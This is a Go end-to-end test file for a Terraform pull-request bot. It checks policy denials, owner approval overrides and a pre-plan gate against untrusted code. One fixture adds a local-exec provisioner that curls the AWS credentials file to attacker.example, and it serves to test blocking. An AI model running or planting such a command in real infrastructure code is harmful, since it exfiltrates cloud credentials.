package server

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/csocbot/csocbot/internal/fakegithub"
	"github.com/csocbot/csocbot/notify/vcs"
	"github.com/csocbot/csocbot/policy"
	"github.com/csocbot/csocbot/store"
)

// vpcGuard is a policy set whose one rule denies any change to a prod vpc
// unit: the e2e pull request widens the prod VPC.
var vpcGuard = map[string]string{
	"vpc_guard.rego": `package csocbot.vpc_guard

deny contains msg if {
	input.unit.environment == "prod"
	endswith(input.unit.path, "/vpc")
	some c in input.changes
	c.actions != ["no-op"]
	msg := sprintf("%s changes in prod: the network team applies VPC changes", [c.address])
}

warn contains msg if {
	input.unit.environment == "prod"
	count(input.pr.approvals) == 0
	msg := "no review has approved this pull request yet"
}

warn contains msg if {
	endswith(input.unit.path, "/vpc")
	some a in input.pr.approvals
	"Codertocat/network-leads" in a.teams
	a.sha == input.pr.head.sha
	msg := sprintf("reviewed by %s of the network leads", [a.user])
}
`,
}

func writePolicySet(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const prodEnvironment = "environments:\n  - name: prod\n    paths: ['live/*/*/prod/**']\n    account: '123456789012'\n    region: us-east-1\n"

// policyStatus returns the latest csocbot/policy status of the head.
func (e *e2e) policyStatus() (fakegithub.Status, bool) {
	for _, s := range e.gh.Statuses(e.repo, e.headSHA) { // newest first
		if s.Context == vcs.PolicyContext {
			return s, true
		}
	}
	return fakegithub.Status{}, false
}

func (e *e2e) waitForPolicyStatus(state string) fakegithub.Status {
	e.t.Helper()
	var got fakegithub.Status
	e.waitFor("a "+state+" csocbot/policy status at "+e.headSHA[:7], func() bool {
		s, ok := e.policyStatus()
		got = s
		return ok && s.State == state
	})
	return got
}

// TestEndToEndPolicyFailureAndOwnerApprovals follows a pull request whose
// plan a policy denies: the failure in the comment, the failing status and
// the run record; replies to a non-owner and to the author; an owner's
// approval through a team overriding it; and a new commit clearing it.
func TestEndToEndPolicyFailureAndOwnerApprovals(t *testing.T) {
	e := newE2EWith(t, e2eOptions{
		config: prodEnvironment,
		policies: []policy.Set{{Name: "network", Dir: writePolicySet(t, vpcGuard), Owners: []string{"alice", "Codertocat"},
			Teams: []string{"Codertocat/network-leads"}, Approvals: 1}},
	})
	e.gh.AddTeamMember("Codertocat", "network-leads", "bob", "active")
	e.start()
	if code, _ := post(t, e.srv.Handler(), delivery{event: "pull_request", id: "policy-1", body: e.openedPayload()}); code != 202 {
		t.Fatalf("webhook answered %d", code)
	}
	e.waitFor("the plan comment", func() bool { return len(e.planComments()) > 0 })
	body := e.planComments()[0].Body
	for _, want := range []string{
		"| Policy |",
		"| `network` | `vpc_guard` | ❌ denied | terraform\\_data.vpc changes in prod",
		"⚠️ warning | no review has approved this pull request yet",
		"❌ **Policy set `network` fails for 1 unit.**",
		"To override it at this commit it needs 1 approval from `alice`, `Codertocat`, members of `Codertocat/network-leads`: comment `csocbot approve_policies network`. The author (`Codertocat`) cannot approve. A new commit needs new approvals.",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("plan comment lacks %q:\n%s", want, body)
		}
	}
	st := e.waitForPolicyStatus("failure")
	if !strings.Contains(st.Description, "network fails in 1 unit (0 of 1 owner approvals)") {
		t.Errorf("policy status %+v", st)
	}
	runs, err := e.st.Runs(context.Background(), e.repo, e.pr, e.headSHA)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range runs {
		if r.Policy == nil || !strings.Contains(string(r.Policy), `"moment":"post-plan"`) {
			t.Errorf("run of %s has policy results %s, want post-plan results", r.Unit, r.Policy)
		}
	}

	for _, tc := range []struct{ who, command, want string }{
		{"mallory", "csocbot approve_policies", "`mallory` may not approve any of the failing policy sets"},
		{"mallory", "csocbot approve_policies network", "`mallory` may not approve policy set `network`: they are not one of its owners"},
		{"Codertocat", "csocbot approve_policies network", "`Codertocat` may not approve policy set `network`: the author of a pull request cannot approve it"},
	} {
		reply := e.sendComment(tc.who, tc.command)
		if !strings.Contains(reply, tc.want) || !strings.Contains(reply, "`alice`, `Codertocat`, members of `Codertocat/network-leads`") {
			t.Errorf("reply to %s:\n%s\nwant %q and who may approve", tc.who, reply, tc.want)
		}
	}
	if got, _ := e.st.PolicyApprovals(context.Background(), e.repo, e.pr, e.headSHA); len(got) != 0 {
		t.Fatalf("refused approvals were recorded: %+v", got)
	}

	reply := e.sendComment("bob", "csocbot approve_policies")
	if !strings.Contains(reply, "Recorded `bob`'s approval of policy set `network` at `"+e.headSHA[:7]+"` (1 of 1 needed). Its failures are overridden") {
		t.Errorf("reply to the owner:\n%s", reply)
	}
	if st := e.waitForPolicyStatus("success"); st.Description != "network overridden by bob" {
		t.Errorf("policy status after the approval %+v", st)
	}
	approvals, err := e.st.PolicyApprovals(context.Background(), e.repo, e.pr, e.headSHA)
	if err != nil || len(approvals) != 1 || approvals[0].Approver != "bob" || approvals[0].Set != "network" || approvals[0].CommentID == 0 {
		t.Errorf("recorded approvals %+v (%v)", approvals, err)
	}

	// A new commit needs new approvals. An approving review of it is in
	// the input, with the reviewer's teams.
	e.commit(func(e *e2e) { e.src.Append("live/gen3-prod/us-east-1/prod/vpc/terragrunt.hcl", "\n# reviewed\n") })
	e.gh.AddReview(e.repo, e.pr, fakegithub.Review{User: fakegithub.User{Login: "bob"}, State: "APPROVED", CommitID: e.headSHA})
	e.synchronize()
	st = e.waitForPolicyStatus("failure")
	if !strings.Contains(st.Description, "0 of 1 owner approvals") {
		t.Errorf("policy status at the new head %+v", st)
	}
	e.waitFor("the plan of the new commit", func() bool { return len(e.planComments()) == 2 })
	body = e.planComments()[1].Body
	if !strings.Contains(body, "reviewed by bob of the network leads") || strings.Contains(body, "no review has approved") {
		t.Errorf("the plan of the new commit does not show the approving review in the input:\n%s", body)
	}
}

// TestEndToEndPrePlanPolicyBlocksUntrustedCode checks the pre-plan gate
// with the bundled library: a plain root that gains a local-exec
// provisioner is not planned at all, and is planned once an owner
// overrides the failure.
func TestEndToEndPrePlanPolicyBlocksUntrustedCode(t *testing.T) {
	e := newE2EWith(t, e2eOptions{
		config:   prodEnvironment,
		policies: []policy.Set{{Name: "gen3", Dir: filepath.Join("..", "policy", "library"), Owners: []string{"alice"}, Approvals: 1}},
	})
	e.commit(func(e *e2e) {
		e.src.Append("terraform/csoc-dns/main.tf", `
resource "terraform_data" "hook" {
  provisioner "local-exec" {
    command = "curl -d @$HOME/.aws/credentials https://attacker.example"
  }
}
`)
	})
	e.start()
	post(t, e.srv.Handler(), delivery{event: "pull_request", id: "untrusted-1", body: e.openedPayload()})
	e.waitFor("the plan comment", func() bool { return len(e.planComments()) > 0 })
	body := e.planComments()[0].Body
	for _, want := range []string{
		"| `terraform/csoc-dns` |  | | | | | 🚫 blocked by policy | ❌ 1 failed |",
		"terraform did not run any of its code",
		"| `gen3` | `untrusted_code` | ❌ denied | terraform/csoc-dns: resource terraform\\_data.hook has a local-exec provisioner",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("plan comment lacks %q:\n%s", want, body)
		}
	}
	blocked := func() store.Run {
		runs, _ := e.st.Runs(context.Background(), e.repo, e.pr, e.headSHA)
		for _, r := range runs {
			if r.Unit == "terraform/csoc-dns" {
				return r
			}
		}
		return store.Run{}
	}
	if r := blocked(); r.State != store.RunBlocked || r.PlanPath != "" {
		t.Errorf("csoc-dns run %+v, want blocked without a plan", r)
	}
	e.waitForPolicyStatus("failure")

	reply := e.sendComment("alice", "csocbot approve_policies gen3")
	if !strings.Contains(reply, "csocbot plans the pull request again") {
		t.Errorf("reply:\n%s", reply)
	}
	e.waitFor("the plan after the override", func() bool { return len(e.planComments()) == 2 })
	body = e.planComments()[1].Body
	if !strings.Contains(body, "☑️ deny, overridden") || !strings.Contains(body, "is overridden** at `"+e.headSHA[:7]+"` by `alice`") {
		t.Errorf("second plan comment:\n%s", body)
	}
	if r := blocked(); r.State != store.RunPlanned || r.PlanPath == "" {
		t.Errorf("csoc-dns run after the override %+v, want planned", r)
	}
	e.waitForPolicyStatus("success")
}
